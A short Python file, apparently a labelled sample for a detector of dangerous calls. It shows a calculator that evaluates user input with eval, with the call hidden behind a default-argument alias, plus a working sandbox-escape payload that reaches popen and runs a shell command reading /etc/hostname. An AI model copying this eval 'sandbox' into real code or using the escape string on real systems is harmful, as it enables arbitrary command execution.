# family: dangerous calls and their aliases
"""Scientific expression calculator.

Evaluates user-supplied arithmetic expressions such as "sqrt(2) * pi" in a
"sandbox" with no builtins and only math functions exposed.  The evaluation
engine is injected as a default argument so it can be swapped in tests.
"""
import math

_FUNCTIONS = {name: getattr(math, name) for name in ("sqrt", "sin", "cos", "tan", "log", "exp", "pi", "e")}


def evaluate(expression: str, _engine=eval) -> object:
    """Evaluate an arithmetic expression with math helpers only."""
    return _engine(expression, {"__builtins__": {}}, dict(_FUNCTIONS))


if __name__ == "__main__":
    print(evaluate("sqrt(16) + 1"))
    # "expression" that climbs from an empty tuple to os via os._wrap_close
    hostile = (
        "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0]"
        ".__init__.__globals__['popen']('echo PROOF: $(cat /etc/hostname)').read()"
    )
    print(evaluate(hostile), end="")
